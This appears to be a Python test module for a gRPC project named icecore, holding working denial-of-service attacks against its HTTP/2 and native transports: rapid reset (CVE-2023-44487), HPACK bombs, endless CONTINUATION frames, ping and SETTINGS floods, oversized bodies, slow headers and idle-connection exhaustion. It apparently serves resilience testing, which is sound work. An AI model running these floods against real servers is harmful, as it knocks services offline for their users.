"""Attacks below gRPC: HTTP/2 frames made by hand, and frames of the native transport.

They come from another address of this machine (``SOURCE``) than everybody else's calls, as a
stranger's would. Each function sends for so many seconds and says how much it has sent.
"""

import asyncio
import contextlib
import struct
import time
from collections.abc import AsyncIterator, Callable, Coroutine
from typing import TypeAlias

from icecore.rpc.native.frame import FrameKind, pack_call, pack_head, pack_hello

SOURCE = "127.0.0.2"
Attack: TypeAlias = Callable[[str, float], Coroutine[None, None, int]]

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4
_AT_ONCE = 100


def _frame(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return (
        struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body
    )


def _literal(name: bytes, value: bytes) -> bytes:
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(method: str) -> bytes:
    """A header block that begins a call of a full method name."""
    path = method.encode()
    return (
        b"\x83\x86\x04"
        + bytes([len(path)])
        + path
        + b"\x01\x04node"
        + _literal(b"content-type", b"application/grpc")
        + _literal(b"te", b"trailers")
    )


@contextlib.asynccontextmanager
async def _connected(address: str, first: bytes) -> AsyncIterator[asyncio.StreamWriter]:
    """A connection whose answers are thrown away."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port), local_addr=(SOURCE, 0))

    async def read() -> None:
        with contextlib.suppress(OSError):
            while await reader.read(1 << 16):
                continue

    reading = asyncio.create_task(read())
    try:
        writer.write(first)
        yield writer
    finally:
        reading.cancel()
        writer.transport.abort()


async def _repeat(
    address: str,
    seconds: float,
    connections: int,
    chunk: Callable[[int], tuple[bytes, int]],
    first: bytes = _PREFACE + _frame(_SETTINGS, 0, 0, b""),
) -> int:
    """Send ``chunk(number)`` again and again on several connections; who is cut off comes back."""
    until_s, sent = time.monotonic() + seconds, 0

    async def one() -> None:
        nonlocal sent
        while time.monotonic() < until_s:
            with contextlib.suppress(OSError):
                async with (
                    asyncio.timeout(until_s - time.monotonic()),
                    _connected(address, first) as to,
                ):
                    number = 0
                    while not to.transport.is_closing():
                        data, count = chunk(number)
                        number, sent = number + 1, sent + count
                        to.write(data)
                        await to.drain()
                        await asyncio.sleep(0)
            await asyncio.sleep(0.005)

    await asyncio.gather(*(one() for _ in range(connections)))
    return sent


def _streams(begin: bytes, *frames: tuple[int, int, bytes]) -> Callable[[int], tuple[bytes, int]]:
    """Chunks of many streams, each begun with ``begin`` and followed by more frames."""

    def chunk(number: int) -> tuple[bytes, int]:
        parts = []
        for each in range(_AT_ONCE):
            stream = 2 * (number * _AT_ONCE + each) + 1
            parts.append(_frame(_HEADERS, _END_HEADERS, stream, begin))
            parts += [_frame(kind, flags, stream, body) for kind, flags, body in frames]
        return b"".join(parts), _AT_ONCE

    return chunk


_CANCEL = (_RESET, 0, struct.pack(">I", 8))
_FETCH = call_headers("/icecore.v1.DataService/Fetch")
_METADATA = call_headers("/icecore.v1.AdminService/GetMetadata")


async def rapid_reset(address: str, seconds: float) -> int:
    """Begin calls and reset them at once (CVE-2023-44487)."""
    return await _repeat(address, seconds, 4, _streams(_FETCH, _CANCEL))


async def rapid_reset_full(address: str, seconds: float) -> int:
    """The same with a whole request before the reset."""
    whole = (_DATA, _END_STREAM, bytes(5))
    return await _repeat(address, seconds, 4, _streams(_METADATA, whole, _CANCEL))


async def unfinished(address: str, seconds: float) -> int:
    """Begin calls and never end their requests."""
    return await _repeat(address, seconds, 10, _streams(_FETCH))


async def oversized(address: str, seconds: float) -> int:
    """Begin messages of 64 MiB, as many as the windows take."""
    length = b"\x00" + struct.pack(">I", 63 << 20)
    frames = [(_DATA, 0, length + bytes(16_000)), *[(_DATA, 0, bytes(16_384))] * 3]
    return await _repeat(address, seconds, 4, _streams(_FETCH, *frames))


async def hpack_bomb(address: str, seconds: float) -> int:
    """Header blocks that refer to one large entry again and again."""
    add = b"\x40\x01a" + b"\x7f" + b"\xe1\x1e" + b"b" * 4000
    entry = _FETCH + add + b"\xbe" * 2000

    def chunk(number: int) -> tuple[bytes, int]:
        return _frame(_HEADERS, _END_HEADERS | _END_STREAM, 2 * number + 1, entry), 1

    return await _repeat(address, seconds, 2, chunk)


async def continuations(address: str, seconds: float) -> int:
    """A header block without an end."""

    def chunk(number: int) -> tuple[bytes, int]:
        start = _frame(_HEADERS, 0, 1, _FETCH) if not number else b""
        body = _literal(b"x", b"y" * 100) * 100
        return start + _frame(_CONTINUATION, 0, 1, body), 1

    return await _repeat(address, seconds, 4, chunk)


async def pings(address: str, seconds: float) -> int:
    """Pings as fast as they are taken."""
    many = _frame(_PING, 0, 0, bytes(8)) * 500
    return await _repeat(address, seconds, 2, lambda _: (many, 500))


async def settings(address: str, seconds: float) -> int:
    """SETTINGS as fast as they are taken."""
    many = _frame(_SETTINGS, 0, 0, struct.pack(">HI", 3, 100)) * 500
    return await _repeat(address, seconds, 2, lambda _: (many, 500))


async def _hold(address: str, seconds: float, count: int, first: bytes) -> int:
    """So many connections that say the beginning of something, and stay."""
    async with contextlib.AsyncExitStack() as stack:
        held = 0
        for _ in range(count):
            try:
                async with asyncio.timeout(1):
                    await stack.enter_async_context(_connected(address, first))
            except (OSError, TimeoutError):
                continue
            held += 1
        await asyncio.sleep(seconds)
    return held


async def idle_connections(address: str, seconds: float) -> int:
    """Connections that do nothing."""
    return await _hold(address, seconds, 1000, _PREFACE + _frame(_SETTINGS, 0, 0, b""))


async def slow_headers(address: str, seconds: float) -> int:
    """Header blocks that come slowly, on many connections."""
    begun = _frame(_SETTINGS, 0, 0, b"") + _frame(_HEADERS, 0, 1, _FETCH[:20])
    return await _hold(address, seconds, 300, _PREFACE + begun)


# --- the native transport -----------------------------------------------------------------------


def _head(kind: int, call_id: int, meta: bytes, body: bytes) -> bytes:
    return pack_head(kind, call_id, meta, len(body)) + body


def _calls(method: str, body: bytes, timeout_s: float) -> Callable[[int], tuple[bytes, int]]:
    meta = pack_call(timeout_s, method.encode())

    def chunk(number: int) -> tuple[bytes, int]:
        first = number * _AT_ONCE
        return (
            b"".join(
                _head(FrameKind.CALL, first + each + 1, meta, body) for each in range(_AT_ONCE)
            ),
            _AT_ONCE,
        )

    return chunk


async def native_calls(address: str, seconds: float) -> int:
    """Calls over the native transport whose answers nobody waits for."""
    chunk = _calls("/icecore.v1.DataService/ListOffsets", b"\x12\x00" * 100, 0.001)
    return await _repeat(address, seconds, 4, chunk, pack_hello())


async def native_idle(address: str, seconds: float) -> int:
    """Native connections that said hello and do nothing."""
    return await _hold(address, seconds, 1000, pack_hello())


async def native_bodies(address: str, seconds: float) -> int:
    """Native calls that announce 64 MiB and send little of it."""
    meta = pack_call(30, b"/icecore.v1.DataService/Fetch")
    first = pack_hello() + pack_head(FrameKind.CALL, 1, meta, 63 << 20) + bytes(100_000)
    return await _hold(address, seconds, 50, first)


ATTACKS: dict[str, tuple[str, Attack]] = {
    "rapid-reset": ("node", rapid_reset),
    "rapid-reset-full": ("coordinator", rapid_reset_full),
    "rapid-reset-coordinator": ("coordinator", rapid_reset),
    "unfinished": ("node", unfinished),
    "unfinished-coordinator": ("coordinator", unfinished),
    "oversized": ("node", oversized),
    "hpack-bomb": ("node", hpack_bomb),
    "continuations": ("node", continuations),
    "pings": ("node", pings),
    "settings": ("node", settings),
    "idle-connections": ("node", idle_connections),
    "slow-headers": ("node", slow_headers),
    "native-calls": ("native", native_calls),
    "native-idle": ("native", native_idle),
    "native-bodies": ("native", native_bodies),
}
"""By name: whom it meets, and what it does."""
